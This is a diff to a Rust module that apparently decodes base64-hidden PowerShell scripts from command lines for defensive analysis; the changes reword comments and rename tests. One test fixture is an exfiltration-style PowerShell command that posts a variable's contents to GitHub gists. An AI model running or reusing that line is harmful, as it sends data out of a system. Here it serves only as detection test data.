@@ -1,4 +1,4 @@
-//! `powershell -EncodedCommand`: the script behind the base64.
+//! `powershell -EncodedCommand`: the script within the base64.
 
 use base64::Engine as _;
 use base64::alphabet::STANDARD;
@@ -10,17 +10,17 @@ use crate::model::utf16::decode_lossy;
 
 const PARAMETER: &str = "encodedcommand";
 
-/// A script that stood on a command line in base64.
+/// A script that a command line held in base64.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub struct Decoded {
-    /// Where the base64 stands, in bytes.
+    /// The range of the base64, in bytes.
     pub range: Range<usize>,
     /// The script. It is the attacker's: neither masked nor made visible.
     pub script: String,
 }
 
-/// The script that a command line of PowerShell holds in base64 of UTF-16LE; `None` where there is none, or where it
-/// does not decode to text. PowerShell takes any prefix of the parameter's name, `-`, `/` and three longer dashes; after
+/// Returns the script that a command line of PowerShell holds in base64 of UTF-16LE; `None` without one, or where it does
+/// not decode to text. PowerShell takes any prefix of the parameter's name, `-`, `/` and three longer dashes; after
 /// `-Command` or `-File` all is the script's own.
 #[must_use]
 pub fn decoded(line: &str) -> Option<Decoded> {
@@ -48,7 +48,7 @@ fn script(base64: &str) -> Option<String> {
     while digits.last() == Some(&b'=') {
         digits.pop();
     }
-    // A line that was cut short still tells what it began with: one digit alone encodes no byte.
+    // A line that was cut short still decodes up to there: one digit alone encodes no byte.
     if digits.len() % 4 == 1 {
         digits.pop();
     }
@@ -76,7 +76,7 @@ mod tests {
     }
 
     #[test]
-    fn every_way_of_saying_it_is_decoded() {
+    fn every_parameter_form_is_decoded() {
         let script = "irm https://api.github.com/gists -Method Post -Body $b # é";
         let base64 = encoded(script);
         for name in ["-e", "-ec", "-enc", "/e", "-EncodedCommand", "-eNcOdEd", "\u{2013}enc", "--enc"] {
@@ -94,7 +94,7 @@ mod tests {
     }
 
     #[test]
-    fn what_is_none_is_not_decoded() {
+    fn other_parameters_are_not_decoded() {
         let base64 = encoded("Get-Date");
         for line in [
             format!("powershell.exe -Command Select-String -e {base64}"),
